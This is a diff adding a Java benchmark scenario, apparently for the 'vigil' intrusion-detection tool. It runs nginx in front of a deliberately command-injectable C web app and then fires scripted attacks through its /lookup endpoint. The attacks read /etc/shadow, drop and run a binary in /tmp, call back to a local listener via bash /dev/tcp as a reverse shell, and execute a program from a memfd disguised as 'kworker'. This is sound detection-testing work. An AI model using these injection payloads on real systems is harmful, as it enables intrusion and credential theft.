@@ -1,0 +1,114 @@
+package dev.vigil.bench.scenario;
+
+import dev.vigil.alert.Alert;
+import java.io.IOException;
+import java.io.InputStream;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.StandardCopyOption;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.util.List;
+import java.util.Random;
+import java.util.concurrent.TimeUnit;
+
+/**
+ * nginx (Debian's) in front of vigil-webapp (src/main/c/vigil-webapp.c: /lookup runs
+ * getent through a shell, a command-injection flaw), each in a cgroup of its own in one
+ * network namespace. Normal: pages, /time, /stats, lookups of a few names, 404s, query
+ * strings of varying length. Attack through nginx: discovery, a credential read, a dropped
+ * binary, a reverse shell to a listener in the namespace, a program run from a memfd.
+ */
+final class WebappScenario implements Scenario {
+    static final int NGINX = 8080, APP = 8081, ATTACKER = 4444;
+    private Process nginx, app, listener;
+
+    public String name() { return "webapp"; }
+
+    public String description() {
+        return "nginx reverse proxy in front of a 4-thread C web application with a command-injection flaw in /lookup";
+    }
+
+    public String unavailable() {
+        if (!Files.isExecutable(Path.of("/usr/sbin/nginx"))) return "nginx is not installed (apt-get install nginx)";
+        if (!Files.isExecutable(Path.of("/usr/bin/perl"))) return "perl is not installed";
+        return null;
+    }
+
+    public void setUp(ScenarioBench.Env env) throws Exception {
+        Path bin = env.dir().resolve("vigil-webapp");
+        try (InputStream in = WebappScenario.class.getResourceAsStream("/dev/vigil/native/vigil-webapp")) {
+            if (in == null) throw new IllegalStateException("vigil-webapp is not built");
+            Files.copy(in, bin, StandardCopyOption.REPLACE_EXISTING);
+        }
+        Files.setPosixFilePermissions(bin, PosixFilePermissions.fromString("rwxr-xr-x"));
+        Path conf = Files.writeString(env.dir().resolve("nginx.conf"), """
+                worker_processes 2;
+                pid %1$s/nginx.pid;
+                error_log %1$s/nginx-error.log;
+                events { worker_connections 256; }
+                http {
+                  access_log %1$s/access.log;
+                  client_body_temp_path %1$s/body; proxy_temp_path %1$s/proxy; fastcgi_temp_path %1$s/fcgi;
+                  uwsgi_temp_path %1$s/uwsgi; scgi_temp_path %1$s/scgi;
+                  server {
+                    listen 127.0.0.1:%2$d;
+                    location / { proxy_pass http://127.0.0.1:%3$d; proxy_http_version 1.0; }
+                  }
+                }
+                """.formatted(env.dir(), NGINX, APP));
+        app = env.start(env.cgroup("app"), env.dir().resolve("app.log"), bin.toString(), Integer.toString(APP));
+        nginx = env.start(env.cgroup("nginx"), env.dir().resolve("nginx.log"), "/usr/sbin/nginx", "-c", conf.toString(), "-g", "daemon off;");
+        // the attacker's listener, inside the namespace but not in the service's cgroups
+        listener = new ProcessBuilder("nsenter", "--net=/run/netns/" + env.netns(), "perl", "-MIO::Socket::INET", "-e",
+                "my $s = IO::Socket::INET->new(LocalAddr => '127.0.0.1:" + ATTACKER + "', Listen => 5, ReuseAddr => 1) or die; "
+                        + "while (my $c = $s->accept) { my $l = <$c>; close $c }")
+                .redirectErrorStream(true).redirectOutput(env.dir().resolve("listener.log").toFile()).start();
+        Thread.sleep(1500);
+        if (!app.isAlive() || !nginx.isAlive()) throw new IllegalStateException("the service did not start: " + Files.readString(env.dir().resolve("nginx.log")));
+    }
+
+    private static final String[] HOSTS = {"localhost", "example.org", "debian.org", "kernel.org"};
+
+    public Request normal(Random rnd) {
+        String path = switch (rnd.nextInt(6)) {
+            case 0 -> "/";
+            case 1 -> "/time";
+            case 2 -> "/stats";
+            case 3 -> "/lookup?host=" + HOSTS[rnd.nextInt(HOSTS.length)];
+            case 4 -> "/missing/" + Integer.toString(rnd.nextInt(1 << 20), 36);
+            default -> "/?q=" + "x".repeat(1 + rnd.nextInt(200));
+        };
+        return new Request(NGINX, "GET " + path + " HTTP/1.0\r\nHost: webapp\r\nUser-Agent: scenario/" + rnd.nextInt(5) + "\r\n\r\n");
+    }
+
+    private static Step inject(String name, String command) {
+        return new Step(name, env -> Traffic.once(env.netns(), NGINX, "GET /lookup?host=" + URLEncoder.encode("localhost;" + command, StandardCharsets.UTF_8)
+                + " HTTP/1.0\r\nHost: webapp\r\n\r\n"));
+    }
+
+    public List<Step> attack() {
+        int memfd = dev.vigil.trace.SyscallTable.host().number("memfd_create").orElse(-1);
+        return List.of(
+                inject("discovery: id; uname -a", "id;uname -a"),
+                inject("credential access: cat /etc/shadow", "cat /etc/shadow"),
+                inject("a binary dropped in /tmp and run", "cp /bin/true /tmp/.vigil-sc-dropper;/tmp/.vigil-sc-dropper;rm -f /tmp/.vigil-sc-dropper"),
+                inject("a reverse shell: bash connects to the attacker", "bash -c 'echo id > /dev/tcp/127.0.0.1/" + ATTACKER + "'"),
+                inject("fileless: a program run from a memfd", "perl -e '$n=\"x\";$f=syscall(" + memfd + ",$n,0);open(I,\"</bin/true\");sysread(I,$b,1e7);"
+                        + "open(O,\">&=$f\");syswrite(O,$b);exec{\"/proc/self/fd/$f\"}\"kworker\"'"));
+    }
+
+    public boolean owns(ScenarioBench.Env env, Alert a) {
+        return a.profile() != null && a.profile().key().startsWith("cgroup:/" + env.cgroup().getFileName() + "/");
+    }
+
+    public void tearDown(ScenarioBench.Env env) throws IOException, InterruptedException {
+        for (Process p : new Process[] {nginx, app, listener}) {
+            if (p == null) continue;
+            p.destroy();
+            if (!p.waitFor(5, TimeUnit.SECONDS)) p.destroyForcibly();
+        }
+        Files.deleteIfExists(Path.of("/tmp/.vigil-sc-dropper"));
+    }
+}
